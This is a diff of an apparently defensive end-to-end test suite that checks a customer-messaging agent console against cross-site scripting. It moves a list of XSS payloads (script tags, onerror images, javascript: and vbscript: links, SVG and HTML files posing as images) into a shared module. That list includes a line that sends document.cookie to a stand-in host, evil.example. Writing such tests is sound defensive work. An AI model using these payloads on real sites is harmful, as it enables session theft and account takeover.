@@ -4,39 +4,24 @@ A dialog, a request to a strange address, a changed page or a violation of the c
 failure; so is a page without the policy.
 """
 
-import json
 from collections.abc import AsyncIterator
-from typing import Any
 
 import pytest
 import pytest_asyncio
-from playwright.async_api import Page, expect
+from playwright.async_api import expect
 
 from tests.e2e.colleague import SOON_MS, Colleague
+from tests.e2e.hostile import BROKEN_IMAGE, HTML, MARK, SCRIPT, STRANGE, SVG, TEXTS, Guarded, push
 from tests.e2e.office import Office
 from tests.e2e.visitor import Visitor
 from tests.services.media.samples import image
 
 pytestmark = [
     pytest.mark.e2e,
-    pytest.mark.serial,
-    pytest.mark.timeout(120),
+    pytest.mark.timeout(240),
     pytest.mark.asyncio(loop_scope="session"),
 ]
 
-STRANGE = "evil.example"
-MARK = "document.title='run';alert(1);fetch('http://evil.example/'+document.cookie)"
-SCRIPT = f"<script>{MARK}</script>"
-BROKEN_IMAGE = f'<img src=x onerror="{MARK}">'
-TEXTS = (
-    SCRIPT,
-    BROKEN_IMAGE,
-    f'"><svg onload="{MARK}">',
-    f"javascript:{MARK}",
-    "{{constructor.constructor('alert(1)')()}}",
-    f"http://evil.example/'onmouseover='{MARK}",
-    f'<iframe srcdoc="{SCRIPT.replace(chr(34), "")}"></iframe>',
-)
 ADDRESSES = (
     f"javascript:{MARK}",
     f"JaVaScRiPt:{MARK}",
@@ -44,46 +29,6 @@ ADDRESSES = (
     "vbscript:msgbox(1)",
     f'https://{STRANGE}/"onclick="alert(1)',
 )
-SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}">{SCRIPT}</svg>'.encode()
-HTML = f"<!doctype html><html><body>{BROKEN_IMAGE}{SCRIPT}</body></html>".encode()
-WATCH = """
-window.broken = []
-addEventListener('securitypolicyviolation', (event) => {
-  window.broken.push(event.effectiveDirective + ' ' + event.blockedURI)
-})
-"""
-
-
-class Guarded:
-    """A page and everything on it that looks like somebody else's program."""
-
-    def __init__(self, page: Page) -> None:
-        self.page = page
-        self.signs: list[str] = []
-        page.on("request", lambda request: self._request(request.url))
-        page.on("popup", lambda other: self.signs.append(f"popup {other.url}"))
-
-    async def watch(self) -> None:
-        self.page.on("dialog", self._dialog)
-        await self.page.add_init_script(WATCH)
-        await self.page.reload()
-
-    async def _dialog(self, dialog: Any) -> None:
-        self.signs.append(f"dialog {dialog.message}")
-        await dialog.dismiss()
-
-    def _request(self, url: str) -> None:
-        if STRANGE in url:
-            self.signs.append(f"request {url}")
-
-    async def untouched(self) -> None:
-        broken: list[str] = await self.page.evaluate("window.broken")
-        assert self.signs + broken == []
-        assert await self.page.title() != "run"
-        smuggled = "[...document.querySelectorAll('*')].filter((each) => [...each.attributes]"
-        smuggled += ".some(({ name }) => name.startsWith('on'))).length"
-        assert await self.page.evaluate(smuggled) == 0
-        assert await self.page.locator("iframe, object, embed").count() == 0
 
 
 @pytest_asyncio.fixture(loop_scope="session")
@@ -102,13 +47,6 @@ async def scene(office: Office) -> AsyncIterator[tuple[Visitor, Colleague, Guard
 Scene = tuple[Visitor, Colleague, Guarded]
 
 
-async def push(office: Office, customer: Visitor, **message: Any) -> None:
-    url = f"{office.demo.simulator}/phone/{await customer.phone()}/messages"
-    headers = {"Content-Type": "application/json"}
-    async with office.http.post(url, data=json.dumps(message), headers=headers) as answer:
-        assert answer.status == 202, await answer.text()
-
-
 async def give(
     office: Office, customer: Visitor, kind: str, name: str, content: bytes, **more: str
 ) -> None:
@@ -116,7 +54,7 @@ async def give(
     url = f"{office.demo.simulator}/phone/{phone}/media"
     async with office.http.post(url, params={"type": kind, "name": name}, data=content) as answer:
         media_id = (await answer.json())["media_id"]
-    await push(office, customer, type=kind, media_id=media_id, **more)
+    await push(office, phone, type=kind, media_id=media_id, **more)
 
 
 async def test_the_policy_is_set_and_a_script_in_the_page_breaks_it(office: Office) -> None:
@@ -144,11 +82,12 @@ async def test_the_policy_is_set_and_a_script_in_the_page_breaks_it(office: Offi
 
 async def test_script_in_words_stays_words(office: Office, scene: Scene) -> None:
     customer, agent, guarded = scene
-    for text in TEXTS:
-        await push(office, customer, type="text", text=text)
+    phone = await customer.phone()
+    for text in TEXTS.values():
+        await push(office, phone, type="text", text=text)
     bubbles = agent.says("customer")
     await expect(bubbles).to_have_count(len(TEXTS) + 1, timeout=SOON_MS)
-    assert [each.strip() for each in await bubbles.all_inner_texts()][1:] == list(TEXTS)
+    assert [each.strip() for each in await bubbles.all_inner_texts()][1:] == list(TEXTS.values())
     for link in await agent.log.locator("a").all():
         assert (await link.get_attribute("href") or "").startswith("http")
     await guarded.untouched()
@@ -158,14 +97,13 @@ async def test_script_in_titles_labels_and_addresses_is_no_link(
     office: Office, scene: Scene
 ) -> None:
     customer, agent, _ = scene
+    phone = await customer.phone()
     for url in ADDRESSES:
-        await push(office, customer, type="link", title=SCRIPT, description=BROKEN_IMAGE, url=url)
-    await push(
-        office, customer, type="location", latitude=31.2, longitude=121.5, label=BROKEN_IMAGE
-    )
+        await push(office, phone, type="link", title=SCRIPT, description=BROKEN_IMAGE, url=url)
+    await push(office, phone, type="location", latitude=31.2, longitude=121.5, label=BROKEN_IMAGE)
     program = {"Title": SCRIPT, "AppId": f"javascript:{MARK}", "PagePath": BROKEN_IMAGE}
-    await push(office, customer, type="miniprogrampage", fields=program)
-    await push(office, customer, type=BROKEN_IMAGE[:40], fields={"Content": SCRIPT})
+    await push(office, phone, type="miniprogrampage", fields=program)
+    await push(office, phone, type=BROKEN_IMAGE[:40], fields={"Content": SCRIPT})
 
     links = agent.says("customer").get_by_test_id("link")
     await expect(links).to_have_count(len(ADDRESSES), timeout=SOON_MS)
@@ -182,12 +120,12 @@ async def test_script_in_titles_labels_and_addresses_is_no_link(
 @pytest.mark.parametrize(
     ("kind", "name", "content"),
     [
-        ("image", "photo.svg", SVG),
-        ("image", "photo.png", SVG),
-        ("file", "bill.html", HTML),
-        ("file", "bill.txt", HTML),
-        ("file", "bill.svg", SVG),
-        ("image", "photo.gif", b"GIF89a/*" + HTML),
+        ("image", "photo.svg", SVG.encode()),
+        ("image", "photo.png", SVG.encode()),
+        ("file", "bill.html", HTML.encode()),
+        ("file", "bill.txt", HTML.encode()),
+        ("file", "bill.svg", SVG.encode()),
+        ("image", "photo.gif", b"GIF89a/*" + HTML.encode()),
     ],
     ids=["svg", "svg as png", "html", "html as txt", "svg as file", "html as gif"],
 )
